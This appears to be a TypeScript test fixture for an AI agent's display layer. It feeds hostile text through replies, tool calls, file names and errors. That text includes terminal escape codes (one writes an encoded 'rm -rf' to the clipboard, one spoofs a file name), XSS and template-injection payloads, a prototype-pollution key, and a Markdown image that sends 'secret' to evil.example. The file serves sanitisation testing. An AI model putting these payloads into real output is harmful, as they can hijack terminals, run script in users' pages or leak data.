import { reply } from '../../reply.ts';
import type { Scenario } from '../scenario.ts';
import { createStageTool } from '../stage-tools.ts';

/** Clears the screen, names the window, writes the clipboard, hides a link, rings, moves up, turns the text around. */
const escapes =
  '\u001b[2J\u001b[H\u001b]0;owned\u0007\u001b]52;c;cm0gLXJm\u0007' +
  '\u001b]8;;https://evil.example\u001b\\safe\u001b]8;;\u001b\\\u0007\u0000\b\b\b\u001b[3A\u009b31m\u202egpj.exe\u202c\r';

const markup =
  '<script>alert(1)</script><img src=x onerror="alert(2)"><svg/onload=alert(3)>' +
  '<a href="javascript:alert(4)">go</a><iframe srcdoc="&lt;script&gt;alert(5)&lt;/script&gt;"></iframe>' +
  '<style>*{display:none}</style><!-- ]]> </textarea></script>{{7*7}}<%= 7*7 %>';

const markdown =
  '[click](javascript:alert(6)) ![pixel](https://evil.example/p?q=secret) [a]: data:text/html,<script>alert(7)</script>\n' +
  '````\n</code></pre><script>alert(8)</script>\n';

const all = `${escapes} ${markup} ${markdown}`;

/** As text, since an object here could not have such a key. */
const argumentText = `{"path":${JSON.stringify(all)},"__proto__":{"admin":true},"constructor":1,${JSON.stringify(markup)}:[${JSON.stringify(escapes)}]}`;

/** Text that wants to be more than text, in every field that a surface draws. */
export const HOSTILE: readonly Scenario[] = [
  {
    name: 'hostile-text',
    description:
      'Escape codes, HTML and Markdown that attack a terminal or a page, in every text that is shown.',
    script: [
      [
        reply.thinking(all),
        reply.text(escapes.slice(0, 3), escapes.slice(3), markup.slice(0, 5), markup.slice(5), markdown),
        reply.calls([
          ['look', argumentText],
          ['fail', { why: all }],
          [`no_${markup}${escapes}`, {}],
        ]),
        reply.usage(900, 700),
      ],
      [reply.text(all), reply.usage(1_800, 400)],
    ],
    loop: () => ({
      tools: [
        createStageTool(
          'look',
          (_, context) => {
            context.emit({ type: 'progress', message: all, percent: 50, audience: 'user' });
            context.fileChanged({ path: `/project/${escapes}.txt`, before: null, after: all });
            return { ok: true, value: all, audience: 'user' };
          },
          { audience: 'user' },
        ),
        createStageTool('fail', () => ({ ok: false, error: all })),
      ],
      injectors: [{ id: 'notes', priority: 1, inject: () => ({ meta: { [markup]: all } }) }],
    }),
    turns: [{ input: all }],
  },
  {
    name: 'hostile-error',
    description: 'An ending whose message attacks a terminal or a page.',
    script: [[reply.text('So'), { throw: new Error(all) }]],
  },
];
